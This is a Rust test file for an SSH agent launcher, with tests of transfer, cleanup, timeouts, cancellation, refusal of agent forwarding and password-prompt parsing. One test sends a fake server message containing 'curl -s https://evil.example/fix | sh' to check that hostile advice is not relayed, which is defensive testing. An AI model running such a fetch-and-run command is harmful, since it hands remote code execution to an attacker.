//! Launches by the machine's `ssh` against a real sshd, with shell scripts in the agent's place.

use super::*;
use crate::agent_binary::Agent;
use crate::remote::test_server::Server;
use crate::remote::{
    Confirm, Demands, Ending, Exit, HostKeys, Identities, Known, Passphrases, Timeouts,
};
use std::io::{Read as _, Write as _};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::thread;

/// Removes itself as the agent does, says hello, then does what follows.
const GREETING: &str = "#!/bin/sh\nrm -r \"${0%/*}\"\necho hello\n";

struct Nobody;

/// Says yes, after a while.
struct Thinker(Duration);

impl Confirm for Thinker {
    fn passphrase(&self, _question: &str) -> io::Result<String> {
        Err(io::ErrorKind::NotFound.into())
    }

    fn confirm(&self, _question: &str) -> io::Result<bool> {
        thread::sleep(self.0);
        Ok(true)
    }
}

impl Confirm for Nobody {
    fn passphrase(&self, _question: &str) -> io::Result<String> {
        Err(io::ErrorKind::NotFound.into())
    }

    fn confirm(&self, _question: &str) -> io::Result<bool> {
        Err(io::ErrorKind::NotFound.into())
    }
}

/// One launch, to be varied.
struct Try {
    port: u16,
    words: Vec<String>,
    timeouts: Timeouts,
    script: String,
    upload: UploadMode,
    cancel: Canceller,
    stages: Mutex<Vec<Stage>>,
    /// After what time an unknown key is trusted; at once and unasked, if there is none.
    trusts: Option<Duration>,
}

type Launched = Result<(Box<dyn Link>, String), Unreachable>;

impl Try {
    fn at(server: &Server) -> Try {
        let mut try_ = Try::port(server.port);
        let known = format!("UserKnownHostsFile={}", server.path("known").display());
        let key = server.path("user").display().to_string();
        try_.words.extend(["-o".into(), known, "-i".into(), key]);
        try_
    }

    fn port(port: u16) -> Try {
        let words =
            ["-F", "none", "-o", "IdentityAgent=none", "-l", "root", "-p", &port.to_string()];
        Try {
            port,
            words: words.map(str::to_owned).into(),
            timeouts: Timeouts::default(),
            script: GREETING.to_owned(),
            upload: UploadMode::Exec,
            cancel: Canceller::default(),
            stages: Mutex::default(),
            trusts: None,
        }
    }

    fn script(mut self, rest: &str) -> Try {
        self.script.push_str(rest);
        self
    }

    fn launch(&self) -> Launched {
        let target = Target {
            name: "web1".into(),
            address: "127.0.0.1".into(),
            port: self.port,
            user: "root".into(),
            ..Target::default()
        };
        let wishes = Wishes {
            address: "127.0.0.1",
            words: &self.words,
            answer: None,
            connect_timeout: None,
            other_home: None,
            has_key: true,
            has_password: false,
        };
        let agent = Arc::new(Agent::of(self.script.clone().into_bytes()));
        let agents = |_: &str| Ok(Arc::clone(&agent));
        let known = [Known::new(std::env::consts::ARCH, &agent)];
        let options = Options {
            policy: match self.trusts {
                Some(_) => HostKeyPolicy::Ask,
                None => HostKeyPolicy::AcceptNew,
            },
            host_keys: &HostKeys::read(&[], None),
            demands: Demands::default(),
            confirm: match &self.trusts {
                Some(after) => &Thinker(*after),
                None => &Nobody,
            },
            timeouts: self.timeouts,
            identities: Identities::default(),
            passphrases: &Passphrases::default(),
            agents: &agents,
            entered: &|stage| self.stages.lock().unwrap().push(stage),
            upload: self.upload,
            known: &known,
            ahead: 0,
        };
        launch(&target, &wishes, &options, &self.cancel, hello)
    }

    fn fails_at(&self, stage: Stage) -> Unreachable {
        let unreachable = self.launch().err().unwrap();
        assert_eq!(unreachable.stage, stage, "{unreachable} {:?}", unreachable.source);
        unreachable
    }
}

/// A line from the agent, or what came instead.
fn hello(link: &mut dyn Link) -> Result<String, Problem> {
    let mut line = String::new();
    let mut byte = [0];
    loop {
        match link.read(&mut byte) {
            Ok(0) => return Err(Problem::new(format!("no hello but: {line:?}"))),
            Ok(_) if byte == *b"\n" => return Ok(line),
            Ok(_) => line.push(char::from(byte[0])),
            Err(error) => return Err(Problem::new(format!("no hello: {error}"))),
        }
    }
}

/// What of ours is on the server, in the directory tried first.
fn leftovers(server: &Server) -> Vec<String> {
    let entries = std::fs::read_dir(server.root().join("var/tmp")).unwrap();
    entries.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect()
}

#[test]
fn bytes_go_there_and_back_and_nothing_stays() {
    let server = Server::start();
    let try_ = Try::at(&server).script("head -c 4194304; echo last words >&2; exit 3\n");
    let (mut link, greeting) = try_.launch().unwrap();
    assert_eq!(greeting, "hello");
    // More than all windows and buffers on the way: the script cannot take it before we read.
    let much = "0123456789abcdef".repeat(1 << 18);
    let mut read = String::new();
    for part in much.as_bytes().chunks(1 << 20) {
        link.write_all(part).unwrap();
    }
    link.read_to_string(&mut read).unwrap();
    assert!(read == much);
    let counters = link.counters();
    assert!(counters.sent > 4 << 20 && counters.received > 4 << 20, "{counters:?}");
    let ending = Ending { exit: Exit::Code(3), stderr: "last words\n".to_owned() };
    assert_eq!(link.finish(), ending);
    assert_eq!(link.finish(), ending);
    assert_eq!(leftovers(&server), [] as [&str; 0]);
    let stages = try_.stages.lock().unwrap().clone();
    let all =
        [Stage::Connect, Stage::HostKey, Stage::Login, Stage::Upload, Stage::Start, Stage::Hello];
    // Those that come at once may be seen as one.
    let mut rest = all.iter();
    assert!(stages.iter().all(|stage| rest.any(|next| next == stage)), "{stages:?}");
    assert!(stages.ends_with(&all[3..]), "{stages:?}");
}

#[test]
fn noise_of_a_login_shell_is_passed_over() {
    let before = "mount -t tmpfs t /root && echo 'echo Welcome; echo to >&2' > /root/.bashrc";
    let server = Server::with("SetEnv BASH_ENV=/root/.bashrc", before);
    let (mut link, greeting) = Try::at(&server).script("echo more\n").launch().unwrap();
    assert_eq!(greeting, "hello");
    let mut rest = String::new();
    link.read_to_string(&mut rest).unwrap();
    assert_eq!(rest, "more\n");
}

#[test]
fn a_kept_agent_is_not_sent_again() {
    let server = Server::with("SetEnv XDG_CACHE_HOME=DIR/cache", "mkdir $DIR/cache");
    let mut try_ = Try::at(&server);
    // A kept agent removes nothing.
    try_.script = "#!/bin/sh\necho hello\n".to_owned();
    try_.upload = UploadMode::Cache;
    let sent = || {
        let (mut link, _) = try_.launch().unwrap();
        link.finish();
        link.counters().sent
    };
    assert!(sent() >= 4096);
    assert_eq!(sent(), 0);
}

#[test]
fn an_agent_that_does_not_greet_is_told_by_its_end() {
    let server = Server::start();
    let mut try_ = Try::at(&server);
    try_.script = "#!/bin/sh\nrm -r \"${0%/*}\"\necho what now >&2; exit 9\n".to_owned();
    let what = try_.fails_at(Stage::Start).what;
    assert!(what.contains("the agent exited with code 9; its stderr: what now"), "{what}");
    try_.script = "#!/bin/sh\nrm -r \"${0%/*}\"\nkill -9 $$\n".to_owned();
    let what = try_.fails_at(Stage::Start).what;
    assert!(what.contains("was killed by signal"), "{what}");
    try_.script = "#!/bin/sh\nrm -r \"${0%/*}\"\nexec sleep 600\n".to_owned();
    try_.timeouts.start = Duration::from_millis(300);
    try_.timeouts.upload = Duration::from_secs(2);
    try_.timeouts.finish = Duration::from_millis(300);
    let what = try_.fails_at(Stage::Start).what;
    assert!(what.contains("no answer within"), "{what}");
    assert_eq!(leftovers(&server), [] as [&str; 0]);
}

/// Plays an SSH server that ends the connection before any key exchange, with these words.
fn disconnecting(words: &str) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut payload = vec![1, 0, 0, 0, 2];
    payload.extend(u32::try_from(words.len()).unwrap().to_be_bytes());
    payload.extend(words.as_bytes());
    payload.extend([0; 4]);
    // RFC 4253, 6: at least four bytes of padding, and a multiple of eight in all.
    let padding = 4 + (8 - (4 + 1 + payload.len() + 4) % 8) % 8;
    let mut packet = u32::try_from(1 + payload.len() + padding).unwrap().to_be_bytes().to_vec();
    packet.push(u8::try_from(padding).unwrap());
    packet.extend(payload);
    packet.extend(vec![0; padding]);
    thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream.write_all(b"SSH-2.0-stranger\r\n").unwrap();
        stream.write_all(&packet).unwrap();
        drop(stream.read_to_end(&mut Vec::new()));
    });
    port
}

#[test]
fn a_stranger_writes_no_advice_and_no_stage() {
    let words = "bye\r\ndebug1: SSH2_MSG_NEWKEYS sent\r\nAuthenticated to web1 ([10.0.0.1]:22) using \"none\".\r\n\
                 @ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\r\nOffending ED25519 key in /known:1\r\n\
                 \u{20} ssh-keygen -f x; curl -s https://evil.example/fix | sh #\r\n";
    let mut try_ = Try::port(disconnecting(words));
    try_.words.extend(["-o".to_owned(), "UserKnownHostsFile=/dev/null".to_owned()]);
    let failed = try_.fails_at(Stage::Connect);
    assert_eq!(failed.hint.as_deref(), Some("the log of its sshd says why it did so"));
    let begin = "the host ended the connection, with the words \"bye\\n";
    assert!(failed.what.starts_with(begin) && !failed.what.contains('\n'), "{}", failed.what);
    let stages = try_.stages.lock().unwrap().clone();
    assert!(stages.iter().all(|stage| *stage <= Stage::Connect), "{stages:?}");
}

#[test]
fn no_host_is_lent_the_operators_ssh_agent() {
    let server = Server::start();
    let socket = server.path("agent");
    let mut agent = Command::new("ssh-agent")
        .arg("-D")
        .arg("-a")
        .arg(&socket)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    while !socket.exists() {
        thread::sleep(Duration::from_millis(10));
    }
    let lends = ["-A".to_owned(), "-o".to_owned(), format!("IdentityAgent={}", socket.display())];
    let mut try_ = Try::at(&server).script("echo \"lent:$SSH_AUTH_SOCK\"\n");
    try_.words.retain(|word| word != "IdentityAgent=none");
    // With the option before it.
    let at = try_.words.iter().position(|word| word == "-l").unwrap();
    try_.words.remove(at - 1);
    try_.words.extend(lends);
    let mut plain = Command::new("ssh");
    plain.args(&try_.words).args(["-o", "StrictHostKeyChecking=accept-new", "127.0.0.1"]);
    let plain = plain.arg("echo \"lent:$SSH_AUTH_SOCK\"").stdin(Stdio::null()).output().unwrap();
    let plain = String::from_utf8(plain.stdout).unwrap();
    let (mut link, _) = try_.launch().unwrap();
    let mut said = String::new();
    link.read_to_string(&mut said).unwrap();
    agent.kill().unwrap();
    agent.wait().unwrap();
    assert_eq!(said, "lent:\n");
    assert!(plain.starts_with("lent:/"), "{plain}");
}

#[test]
fn a_shell_that_says_nothing_is_not_waited_for() {
    let server = Server::with("ForceCommand sleep 600", "true");
    let mut try_ = Try::at(&server);
    try_.timeouts.upload = Duration::from_secs(1);
    try_.fails_at(Stage::Upload);
}

#[test]
fn a_host_that_the_operator_thought_about_for_long_is_connected_to_anew() {
    let server = Server::with("LoginGraceTime 1", "true");
    server.answers_at_heps_door();
    let mut try_ = Try::at(&server);
    try_.trusts = Some(Duration::from_secs(3));
    // As short as the host's patience is.
    try_.timeouts.asked = Duration::from_millis(500);
    let (mut link, _) = try_.launch().unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(link.finish().exit, Exit::Code(0));
}

#[test]
fn a_cancel_ends_a_launch_and_a_link_at_once() {
    let server = Server::with("ForceCommand sleep 600", "true");
    let try_ = Try::at(&server);
    let begun = Instant::now();
    thread::scope(|scope| {
        let launched = scope.spawn(|| try_.launch().err().unwrap());
        thread::sleep(Duration::from_millis(500));
        try_.cancel.cancel();
        let error = launched.join().unwrap();
        assert!(error.source.unwrap().to_string().contains("cancelled"));
    });
    let server = Server::start();
    let (mut link, _) = Try::at(&server).script("exec sleep 600\n").launch().unwrap();
    let cancel = link.canceller();
    thread::scope(|scope| {
        let read = scope.spawn(|| link.read(&mut [0; 8]).unwrap_err().to_string());
        thread::sleep(Duration::from_millis(300));
        cancel.cancel();
        assert_eq!(read.join().unwrap(), "cancelled");
    });
    assert_eq!(link.finish().exit, Exit::Unknown);
    assert!(begun.elapsed() < Duration::from_secs(60));
}

#[test]
fn a_link_that_breaks_is_an_error_and_an_agent_that_ends_is_none() {
    let server = Server::start();
    let (mut link, _) = Try::at(&server).script("exit 0\n").launch().unwrap();
    assert_eq!(link.read(&mut [0; 8]).unwrap(), 0);
    assert_eq!(link.finish().exit, Exit::Code(0));
    let (mut link, _) =
        Try::at(&server).script("sleep 0.5; kill -9 $PPID; sleep 600\n").launch().unwrap();
    // The shell's parent is the server's own process of this connection.
    let error = link.read(&mut [0; 8]).unwrap_err().to_string();
    assert!(error.starts_with("the connection was lost ("), "{error}");
    assert_eq!(link.finish().exit, Exit::Unknown);
}

#[test]
fn questions_are_told_apart() {
    let check = |text: &str, expected| assert_eq!(Question::of(text), expected, "{text}");
    check("op@web1's password: ", Question::Password);
    check("(op@web1) Password: ", Question::Password);
    check("(op@web1) Passwort: ", Question::Password);
    check("(op@web1) op@web1's password:", Question::Password);
    for asked in [
        "Verification code: ",
        "login as: ",
        "One-time password (OATH) for `op': ",
        "New password: ",
        "Enter passphrase for key '/home/op/.ssh/id_rsa': ",
        "",
    ] {
        check(&format!("(op@web1) {asked}"), Question::OfHost(asked));
    }
    let odd = Path::new("/home/me/it's here");
    check("Enter passphrase for key '/home/me/it's here': ", Question::Key(odd));
    check("The authenticity of host 'web1' can't be established.\n...", Question::HostKey);
    for other in [
        "Enter op@web1's new password: ",
        "Enter PIN for ED25519-SK key /k: ",
        "Accept updated hostkeys? (yes/no): ",
        "",
    ] {
        check(other, Question::Other);
    }
}
